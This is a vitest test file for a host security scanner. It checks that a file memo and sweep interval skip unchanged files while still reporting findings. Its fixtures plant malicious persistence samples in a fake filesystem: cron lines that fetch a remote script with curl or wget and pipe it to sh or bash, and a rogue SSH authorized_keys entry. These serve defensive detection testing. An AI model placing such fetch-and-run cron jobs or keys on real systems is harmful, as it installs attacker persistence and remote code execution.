import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { FakeRoot } from '../../test/helpers/fake-proc.js';
import { BuiltinDetectorSet } from './detector-set.js';
import { FileMemo } from './file-memo.js';
import { scanHost } from './scan.js';

const fake = new FakeRoot();
fake.add({ pid: 1, ppid: 0, comm: 'init', argv: ['/sbin/init'], exe: '/sbin/init' });
afterAll(() => fake.cleanup());

const crontab = join(fake.root, 'etc/crontab');
const detectors = new BuiltinDetectorSet(fake.root);
const memo = new FileMemo();
const scan = () =>
  scanHost({
    root: fake.root,
    sampleMs: 0,
    logs: false,
    realtime: false,
    fileMemo: memo,
    detectors: detectors.forScan(),
  });
const cronFindings = (r: Awaited<ReturnType<typeof scan>>) =>
  r.findings.filter((f) => f.entity.path === '/etc/crontab').map((f) => f.id);

describe('repeated scans with a file memo', () => {
  it('does not read an unchanged file again, yet reports its findings every time; a rewrite is read again', async () => {
    writeFileSync(crontab, '*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n');
    const first = await scan();
    const found = cronFindings(first);
    expect(found.length).toBeGreaterThan(0);
    expect(memo.skipped).toBe(0);

    const second = await scan();
    expect(memo.skipped).toBeGreaterThan(0);
    expect(cronFindings(second)).toEqual(found);
    // Findings of one scan are its own objects: the next scan's incident ids and cost do not leak into them.
    expect(second.findings.find((f) => f.id === found[0])).not.toBe(
      first.findings.find((f) => f.id === found[0]),
    );

    writeFileSync(crontab, '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
    const third = await scan();
    expect(cronFindings(third)).toEqual([]);
  });

  it('gives the same findings as a scan without the memo', async () => {
    writeFileSync(crontab, '*/5 * * * * root wget -q -O- http://203.0.113.9/y | bash\n');
    await scan();
    const memoized = await scan();
    const plain = await scanHost({ root: fake.root, sampleMs: 0, logs: false, realtime: false });
    const ids = (r: typeof plain) => r.findings.map((f) => f.id).sort();
    expect(memo.skipped).toBeGreaterThan(0);
    expect(ids(memoized)).toEqual(ids(plain));
  });
});

describe('a sweep interval', () => {
  const memo2 = new FileMemo({ sweepIntervalMs: 3_600_000 });
  const scan2 = () =>
    scanHost({
      root: fake.root,
      sampleMs: 0,
      logs: false,
      realtime: false,
      fileMemo: memo2,
      detectors: detectors.forScan(),
    });
  const paths = (r: Awaited<ReturnType<typeof scan2>>) => new Set(r.findings.map((f) => f.entity.path));

  it('checks persistence locations with stat every scan and sweeps when one changed; writable dirs wait', async () => {
    writeFileSync(crontab, '*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n');
    const first = await scan2();
    expect(memo2.sweeps).toBe(1);
    expect(paths(first).has('/etc/crontab')).toBe(true);

    // Nothing changed: no sweep, and the last sweep's findings stand in (as copies).
    const second = await scan2();
    expect(memo2.sweeps).toBe(1);
    expect(memo2.checks).toBe(1);
    expect(paths(second).has('/etc/crontab')).toBe(true);
    expect(second.findings.find((f) => f.entity.path === '/etc/crontab')).not.toBe(
      first.findings.find((f) => f.entity.path === '/etc/crontab'),
    );

    // A new file in a cron directory changes the directory's mtime: swept at once.
    mkdirSync(join(fake.root, 'etc/cron.d'), { recursive: true });
    await scan2();
    const before = memo2.sweeps;
    writeFileSync(
      join(fake.root, 'etc/cron.d/job'),
      '* * * * * root wget -q -O- http://203.0.113.9/y | bash\n',
    );
    const third = await scan2();
    expect(memo2.sweeps).toBe(before + 1);
    expect(paths(third).has('/etc/cron.d/job')).toBe(true);

    // A new authorized_keys where there was none (its location was tried and absent).
    mkdirSync(join(fake.root, 'root/.ssh'), { recursive: true });
    writeFileSync(join(fake.root, 'root/.ssh/authorized_keys'), 'ssh-rsa AAAAB3Nza mdrfckr\n');
    await scan2();
    expect(memo2.sweeps).toBe(before + 2);

    // A file dropped in /tmp waits for the interval (the exec feed sees it when it runs).
    mkdirSync(join(fake.root, 'tmp'), { recursive: true });
    writeFileSync(join(fake.root, 'tmp/x'), '*/5 * * * * root curl http://203.0.113.9/z | sh\n');
    await scan2();
    expect(memo2.sweeps).toBe(before + 2);
  });

  it('sweeps and reads everything again after forget (the rules changed)', async () => {
    const before = memo2.sweeps;
    await scan2();
    expect(memo2.sweeps).toBe(before);
    memo2.forget();
    await scan2();
    expect(memo2.sweeps).toBe(before + 1);
    expect(memo2.skipped).toBe(0);
  });

  it('sweeps every scan with interval 0', async () => {
    const m = new FileMemo({ sweepIntervalMs: 0 });
    expect(m.needsSweep(fake.root, Date.now())).toBe(true);
  });
});
